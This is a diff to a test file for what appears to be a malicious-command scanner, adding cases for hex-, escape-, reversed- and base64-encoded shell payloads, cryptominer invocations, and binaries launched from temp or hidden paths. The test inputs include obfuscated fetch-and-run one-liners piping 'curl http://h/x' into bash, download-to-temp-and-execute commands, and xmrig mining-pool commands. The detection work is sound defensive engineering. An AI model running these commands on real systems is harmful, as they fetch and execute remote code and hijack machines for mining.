@@ -6,7 +6,7 @@
 import { describe, expect, it } from 'vitest';
 import { heredocDelimiters, startedByExecValue, startedByShellLine, stripShellComment } from '../../src/checks/shell-commands.js';
 import { scriptLines } from '../../src/checks/command-scan.js';
-import { findBase64Payloads } from '../../src/rules/decode.js';
+import { findBase64Payloads, findEncodedPayloads } from '../../src/rules/decode.js';
 import { builtinRules } from '../helpers/scan-dir.js';
 import { severityRank } from '../../src/engine/finding.js';
 
@@ -122,13 +122,32 @@ describe('base64 payloads', () => {
     [`echo -n "${b64('curl -fsSL http://h/x | bash')}"|base64 -di|sh`],
     [`base64 -d <<< ${b64('curl -fsSL http://h/x | bash')} | sh`],
     [`python -c "import base64;exec(base64.b64decode('${b64('curl -fsSL http://h/x | bash')}'))"`],
+    [`base64 --decode <<< ${b64('curl -fsSL http://h/x | bash')}`],
+    [`perl -MMIME::Base64 -e 'eval(decode_base64("${b64('curl -fsSL http://h/x | bash')}"))'`],
   ])('decodes %s', (line) => {
     expect(findBase64Payloads(line).map((p) => p.decoded)).toEqual(['curl -fsSL http://h/x | bash']);
+  });
+
+  const hex = (s: string) => Buffer.from(s).toString('hex');
+  const escapes = (s: string) => [...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
+  const reversed = (s: string) => [...s].reverse().join('');
+  it.each([
+    [`echo ${hex('curl -fsSL http://h/x | bash')} | xxd -r -p | sh`, 'hex'],
+    [`xxd -r -p <<< ${hex('curl -fsSL http://h/x | bash')} | sh`, 'hex'],
+    [`printf '${escapes('curl -fsSL http://h/x | bash')}' | sh`, 'hex'],
+    [`eval $'${escapes('curl -fsSL http://h/x | bash')}'`, 'hex'],
+    [`rev <<< '${reversed('curl -fsSL http://h/x | bash')}' | bash`, 'reversed'],
+    [`bash -c "$(echo '${reversed('curl -fsSL http://h/x | bash')}' | rev)"`, 'reversed'],
+  ])('decodes %s', (line, encoding) => {
+    expect(findEncodedPayloads(line).map((p) => [p.encoding, p.decoded])).toEqual([[encoding, 'curl -fsSL http://h/x | bash']]);
+    expect(findBase64Payloads(line)).toEqual([]);
   });
 
   it('leaves binary payloads and ordinary words alone', () => {
     expect(findBase64Payloads(`echo ${Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 0, 0, 0, 0, 3, 4, 5, 6, 0, 0]).toString('base64')} | base64 -d > /tmp/x`)).toEqual([]);
     expect(findBase64Payloads('echo ThisIsJustALongWordWithoutPadding | tr a b')).toEqual([]);
+    expect(findEncodedPayloads("echo 'olleh' | rev")).toEqual([]);
+    expect(findEncodedPayloads(`printf '${'\\x00\\x01'.repeat(8)}' > /tmp/bin`)).toEqual([]);
   });
 });
 
@@ -151,7 +170,8 @@ describe('command-line rules', () => {
     ['wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['command.download-and-exec', 'command.download-to-temp']],
     ['curl -o /var/tmp/k http://h/k && chmod 755 /var/tmp/k', ['command.download-and-exec', 'command.download-to-temp']],
     ['echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d | bash', ['command.base64-to-shell']],
-    ['/x/xmrig -c config.json', ['command.miner']],
+    ['nohup ./xmrig -c config.json &', ['command.miner']],
+    ['cd /opt/x && xmrig', ['command.miner']],
     ['./x --donate-level 1', ['command.miner']],
     ['./x -o stratum+tcp://h:3333', ['command.miner']],
     ['./x -o pool.example.org:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge', ['command.miner']],
@@ -178,8 +198,14 @@ describe('command-line rules', () => {
     expect(names('/tmp/.X2xi-unix/.rsync/c/tsm')).toEqual(['command.started-from-temp']);
     expect(names('/dev/shm/x')).toEqual(['command.started-from-temp']);
     expect(names('/root/.configrc5/a/upd')).toEqual(['command.started-from-hidden']);
-    expect(names('/usr/bin/.sshd')).toEqual(['command.started-from-hidden']);
-    for (const fine of ['/usr/sbin/cron', '/root/.acme.sh/acme.sh', '/home/u/.local/bin/tool', '/tmpfoo/x', '/usr/lib/tmp/x']) {
+    expect(names('/usr/bin/.sshd')).toEqual(['command.started-hidden-system-binary']);
+    expect(names('/bin/.x')).toEqual(['command.started-hidden-system-binary']);
+    expect(names('/usr/local/sbin/.u')).toEqual(['command.started-hidden-system-binary']);
+    expect(names('/usr/bin/.d/x')).toEqual(['command.started-from-hidden']);
+    expect(names('/opt/m/xmrig')).toEqual(['command.started-miner']);
+    expect(names('/var/tmp/.x/xmrig-notls').sort()).toEqual(['command.started-from-temp', 'command.started-miner']);
+    expect(names('/opt/xmrig-6.21/config.json')).toEqual([]);
+    for (const fine of ['/usr/sbin/sshd', '/usr/bin/pgrep', '/root/.acme.sh/acme.sh', '/home/u/.local/bin/tool', '/tmpfoo/x', '/usr/lib/tmp/x']) {
       expect(names(fine), fine).toEqual([]);
     }
     for (const rule of rules.all().filter((r) => r.id.startsWith('command.started-'))) {
